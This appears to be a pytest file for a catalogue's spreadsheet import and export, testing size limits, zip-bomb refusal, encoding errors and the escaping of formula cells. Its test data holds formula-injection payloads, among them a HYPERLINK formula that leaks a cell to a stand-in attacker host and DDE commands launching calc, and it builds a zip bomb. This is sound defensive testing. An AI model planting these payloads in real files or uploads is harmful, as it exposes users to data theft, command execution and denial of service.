"""Spreadsheet import: every bad file or cell is a row/column problem, never a server error.

Also: exports are safe to open in a spreadsheet program (no cell runs as a formula) and still
import back unchanged; formula cells in an imported XLSX are reported, never dropped.
"""

import csv
import io
import tracemalloc
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from catalog.models import Price, Product
from catalog.services import spreadsheet_files
from catalog.services.spreadsheet import products_export, products_import
from tests.factories import make_product, make_user


def csv_bytes(rows) -> bytes:
    text = io.StringIO()
    csv.writer(text).writerows(rows)
    return text.getvalue().encode("utf-8")


def import_csv(data: bytes, **kwargs):
    return products_import(fileobj=io.BytesIO(data), name="products.csv", **kwargs)


def xlsx_bytes(rows) -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def import_xlsx(data: bytes, **kwargs):
    return products_import(fileobj=io.BytesIO(data), name="products.xlsx", **kwargs)


def where(report) -> set[tuple[int, str]]:
    return {(p.row, p.column) for p in report.problems}


# --- XLSX size limits and zip bombs --------------------------------------------------------


def zip_bomb(uncompressed_mb: int) -> bytes:
    """An XLSX-shaped zip whose sheet unpacks to this many MB of repeated bytes."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/workbook.xml", "<workbook/>")
        with archive.open("xl/worksheets/sheet1.xml", "w") as member:
            chunk = b"<row>" + b"A" * (1024 * 1024 - 5)
            for _ in range(uncompressed_mb):
                member.write(chunk)
    return buffer.getvalue()


@pytest.fixture
def no_openpyxl(monkeypatch):
    """Fails the test if openpyxl is asked to open the workbook."""

    def refuse(*args, **kwargs):
        raise AssertionError("openpyxl opened a file that the zip directory already refused")

    monkeypatch.setattr("openpyxl.load_workbook", refuse)


def test_a_zip_bomb_is_refused_from_the_zip_directory_without_unpacking(lamp_family, no_openpyxl):
    """~200 MB of sheet in < 1 MB of file: refused before openpyxl, memory stays small."""
    bomb = zip_bomb(200)
    assert len(bomb) < 1024 * 1024
    tracemalloc.start()
    try:
        report = import_xlsx(bomb)
        _current, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert [p.code for p in report.problems] == ["limit"]
    assert "200 MB" in report.problems[0].message and "100 MB" in report.problems[0].message
    assert peak < 20 * 1024 * 1024  # the file itself is < 1 MB; nothing was inflated
    assert not Product.objects.exists()


def test_an_xlsx_compressed_beyond_the_ratio_is_refused(lamp_family, no_openpyxl, settings):
    settings.PIM_IMPORT_MAX_MB = 1000
    settings.PIM_IMPORT_MAX_XLSX_RATIO = 50
    report = import_xlsx(zip_bomb(20))
    assert [p.code for p in report.problems] == ["limit"]
    assert "zip bomb" in report.problems[0].message


def test_a_file_that_is_not_an_xlsx_is_a_clear_problem(lamp_family):
    report = import_xlsx(b"sku,family\nA,lamps\n")
    assert [p.code for p in report.problems] == ["format"]


def test_an_exported_xlsx_is_well_within_the_ratio(lamp_family):
    """The ratio limit must not refuse ordinary, repetitive spreadsheets."""
    for number in range(300):
        make_product(lamp_family, sku=f"R-{number}", names={"en": "Lamp"})
    buffer = io.BytesIO()
    products_export(fileobj=buffer, fmt="xlsx")
    buffer.seek(0)
    spreadsheet_files.xlsx_check_archive(buffer)  # raises if refused


# --- Rows, columns, cells ------------------------------------------------------------------


@pytest.mark.parametrize("reader", [import_csv, import_xlsx])
def test_too_many_rows_are_refused(lamp_family, settings, reader):
    settings.PIM_IMPORT_MAX_ROWS = 5
    rows = [["sku", "family"]] + [[f"S-{n}", "lamps"] for n in range(6)]
    data = csv_bytes(rows) if reader is import_csv else xlsx_bytes(rows)
    report = reader(data)
    assert [(p.row, p.code) for p in report.problems] == [(7, "limit")]
    assert "5 " in report.problems[0].message
    assert not Product.objects.exists()
    settings.PIM_IMPORT_MAX_ROWS = 6
    assert reader(data).applied


def test_too_many_columns_and_cells_are_refused(lamp_family, settings):
    settings.PIM_IMPORT_MAX_COLUMNS = 3
    report = import_csv(csv_bytes([["sku", "family", "name-en", "name-fi"], ["A", "lamps"]]))
    assert [(p.row, p.code) for p in report.problems] == [(1, "limit")]
    settings.PIM_IMPORT_MAX_COLUMNS = 1000
    settings.PIM_IMPORT_MAX_CELLS = 5
    report = import_csv(csv_bytes([["sku", "family"], ["A", "lamps"], ["B", "lamps"]]))
    assert [(p.row, p.code) for p in report.problems] == [(3, "limit")]


@pytest.mark.parametrize("length", [40_000, 131_073, 300_000])
def test_an_overlong_csv_cell_is_a_problem_not_a_crash(lamp_family, length):
    """Above PIM_IMPORT_MAX_CELL_CHARS; the csv module's own limit is 131,072."""
    report = import_csv(csv_bytes([["sku", "family", "name-en"], ["A", "lamps", "x" * length]]))
    assert [(p.row, p.code) for p in report.problems] == [(2, "too_long")]
    if length < 131_072:
        assert report.problems[0].column == "name-en"
    assert not Product.objects.exists()


def test_an_overlong_xlsx_cell_is_a_problem_on_its_row_and_column(lamp_family, settings):
    settings.PIM_IMPORT_MAX_CELL_CHARS = 1000
    report = import_xlsx(xlsx_bytes([["sku", "family", "brand"], ["A", "lamps", "b" * 1001]]))
    assert [(p.row, p.column, p.code) for p in report.problems] == [(2, "brand", "too_long")]


def test_malformed_utf8_is_reported_with_its_line(lamp_family):
    data = b"sku,family,name-en\nA,lamps,Lamp\nB,lamps,L\xe4mp\n"
    report = import_csv(data)
    (problem,) = report.problems
    assert problem.row == 3 and problem.code == "encoding"
    assert "Line 3" in problem.message and "UTF-8" in problem.message
    assert not Product.objects.exists()


def test_utf8_with_a_byte_order_mark_is_accepted(lamp_family):
    report = import_csv("\ufeffsku,family,name-fa\nA,lamps,چراغ\n".encode())
    assert report.applied and Product.objects.get(sku="A").name_fa == "چراغ"


def test_a_nul_byte_is_reported_with_its_line(lamp_family):
    report = import_csv(b"sku,family,name-en\nA,lamps,La\x00mp\n")
    assert [(p.row, p.code) for p in report.problems] == [(2, "nul")]


def test_a_csv_above_the_size_limit_is_refused(lamp_family, settings):
    settings.PIM_IMPORT_MAX_MB = 1
    data = csv_bytes([["sku", "family", "description-en"]] + [["A", "lamps", "x" * 2_000_000]])
    assert [p.code for p in import_csv(data).problems] == ["limit"]


# --- Values that cannot be stored ----------------------------------------------------------


@pytest.mark.parametrize("amount", ["1e400", "NaN", "inf", "-Infinity", "sNaN", "12345678901.00"])
def test_prices_that_cannot_be_stored_are_row_and_column_problems(lamp_family, web, amount):
    report = import_csv(
        csv_bytes([["sku", "family", "price-web-EUR"], ["P", "lamps", "1"], ["Q", "lamps", amount]])
    )
    assert where(report) == {(3, "price-web-EUR")}
    assert "negative" not in report.problems[0].message
    assert not Product.objects.exists() and not Price.objects.exists()


def test_the_largest_price_that_fits_is_imported(lamp_family, web):
    report = import_csv(
        csv_bytes([["sku", "family", "price-web-EUR"], ["P", "lamps", "9999999999.99"]])
    )
    assert report.applied
    assert str(Price.objects.get().amount) == "9999999999.99"


@pytest.mark.parametrize(
    ("column", "length"),
    [("brand", 3000), ("seo_title-en", 5000), ("label_text-fi", 10_000), ("sku", 500)],
)
def test_texts_longer_than_their_field_are_problems(lamp_family, column, length):
    """Brand 200, SEO title 70, label text 255, SKU 64: the model fields' max_length."""
    header = ["sku", "family", column] if column != "sku" else ["sku", "family"]
    cells = ["A", "lamps", "x" * length] if column != "sku" else ["x" * length, "lamps"]
    report = import_csv(csv_bytes([header, cells]))
    assert where(report) == {(2, column)}
    assert not Product.objects.exists()


def test_texts_longer_than_their_field_are_problems_on_update_too(lamp_family):
    make_product(lamp_family, sku="A", brand="Old")
    report = import_csv(csv_bytes([["sku", "brand"], ["A", "b" * 201]]))
    assert where(report) == {(2, "brand")}
    assert Product.objects.get(sku="A").brand == "Old"


def test_a_sku_that_would_break_its_url_is_a_problem(lamp_family):
    """Depends on the SKU character rule of the product services (helper "api")."""
    report = import_csv(csv_bytes([["sku", "family"], ["A/B", "lamps"]]))
    assert where(report) == {(2, "sku")}
    assert not Product.objects.exists()


# --- Formula injection ---------------------------------------------------------------------

DANGEROUS = {
    "F-1": '=HYPERLINK("http://evil.example/?leak="&A2,"Click")',
    "F-2": "+1+2",
    "F-3": "-2+3+cmd|' /C calc'!A0",
    "F-4": "@SUM(1+1)*cmd|' /C calc'!A0",
    "F-5": "'=already quoted",
}


@pytest.fixture
def dangerous(lamp_family, web):
    for sku, name in DANGEROUS.items():
        product = make_product(lamp_family, sku=sku, names={"en": name, "fi": "-5"}, brand=name)
        Price.objects.create(product=product, channel=web, currency="EUR", amount="1.00")
    return lamp_family


def export(fmt: str) -> bytes:
    buffer = io.BytesIO()
    products_export(fileobj=buffer, fmt=fmt)
    return buffer.getvalue()


def test_xlsx_export_writes_no_formula_and_round_trips(dangerous):
    data = export("xlsx")
    sheet = load_workbook(io.BytesIO(data)).active
    header = [cell.value for cell in sheet[1]]
    names = {}
    for row in sheet.iter_rows(min_row=2):
        assert all(cell.data_type != "f" for cell in row)
        names[row[header.index("sku")].value] = row[header.index("name-en")]
    for sku, name in DANGEROUS.items():
        assert names[sku].data_type == "s" and names[sku].value == "'" + name
    # A plain number stays a plain number, not an escaped text.
    fi = {row[0].value: row[header.index("name-fi")].value for row in sheet.iter_rows(min_row=2)}
    assert set(fi.values()) == {"-5"}
    before = {p.sku: (p.version, p.name_en, p.brand) for p in Product.objects.all()}
    report = import_xlsx(data)
    assert report.ok and report.counts()["unchanged"] == len(DANGEROUS)
    assert {p.sku: (p.version, p.name_en, p.brand) for p in Product.objects.all()} == before


def test_csv_export_neutralises_formulas_and_round_trips(dangerous):
    data = export("csv")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    header = rows[0]
    for row in rows[1:]:
        assert row[header.index("name-en")] == "'" + DANGEROUS[row[0]]
        assert row[header.index("brand")] == "'" + DANGEROUS[row[0]]
    before = {p.sku: (p.version, p.name_en) for p in Product.objects.all()}
    report = import_csv(data)
    assert report.ok and report.counts()["unchanged"] == len(DANGEROUS)
    assert {p.sku: (p.version, p.name_en) for p in Product.objects.all()} == before


def test_the_admin_csv_export_neutralises_formulas(client, dangerous):
    client.force_login(make_user("boss", superuser=True))
    response = client.get("/admin/catalog/import-export/?export=csv")
    text = response.content.decode("utf-8-sig")
    assert "'=HYPERLINK" in text and "\n=HYPERLINK" not in text and ",=HYPERLINK" not in text
    response = client.get("/admin/catalog/import-export/?export=xlsx")
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_formula_cells_of_an_imported_xlsx_are_problems_not_dropped(lamp_family):
    data = xlsx_bytes(
        [
            ["sku", "family", "name-en", "brand"],
            ["A", "lamps", '=CONCAT("La","mp")', "Acme"],
            ["B", "lamps", "Lamp", "=A2"],
        ]
    )
    report = import_xlsx(data)
    assert {(p.row, p.column, p.code) for p in report.problems} == {
        (2, "name-en", "formula"),
        (3, "brand", "formula"),
    }
    assert "paste the values" in report.problems[0].message
    assert not Product.objects.exists()


def test_an_escaped_formula_text_imports_as_the_text(lamp_family):
    """Typing '=1+2 in a spreadsheet (or an export) imports the text =1+2."""
    report = import_xlsx(xlsx_bytes([["sku", "family", "name-en"], ["A", "lamps", "'=1+2"]]))
    assert report.applied and Product.objects.get(sku="A").name_en == "=1+2"


def test_a_sheet_of_a_million_rows_is_refused_before_openpyxl_reads_it(lamp_family, no_openpyxl):
    """The sheet's rows are counted by a fast scan of its XML (openpyxl would load every
    shared string first); padding rows (one row numbered 1,000,000) count too."""
    buffer = io.BytesIO(xlsx_bytes([["sku", "family"], ["A", "lamps"]]))
    with zipfile.ZipFile(buffer) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    sheet = parts["xl/worksheets/sheet1.xml"].decode()
    parts["xl/worksheets/sheet1.xml"] = sheet.replace(
        "</sheetData>",
        '<row r="1000000"><c r="A1000000" t="inlineStr"><is><t>x</t></is></c></row></sheetData>',
    ).encode()
    padded = io.BytesIO()
    with zipfile.ZipFile(padded, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    report = import_xlsx(padded.getvalue())
    assert [(p.code, p.row) for p in report.problems] == [("limit", 50_002)]
    assert "1000000 rows" in report.problems[0].message


def test_the_admin_import_page_reports_bad_files_instead_of_failing(client, lamp_family):
    client.force_login(make_user("boss", superuser=True))
    from django.core.files.uploadedfile import SimpleUploadedFile

    url = "/admin/catalog/import-export/"
    for name, data, expected in (
        ("bad.csv", b"sku,family,name-en\nA,lamps,L\xe4mp\n", "Line 2"),
        ("long.csv", b"sku,family,name-en\nA,lamps," + b"x" * 131_073 + b"\n", "32767"),
        ("price.csv", b"sku,family,price-web-EUR\nA,lamps,1e400\n", "price-web-EUR"),
        ("bomb.xlsx", zip_bomb(120), "120 MB"),
    ):
        upload = SimpleUploadedFile(name, data)
        response = client.post(url, {"file": upload, "dry_run": "on"})
        assert response.status_code == 200, name
        assert expected in response.content.decode(), name
        if name == "bomb.xlsx":  # a problem of the whole file has no row number
            assert "<td>whole file</td>" in response.content.decode()
    assert not Product.objects.exists()
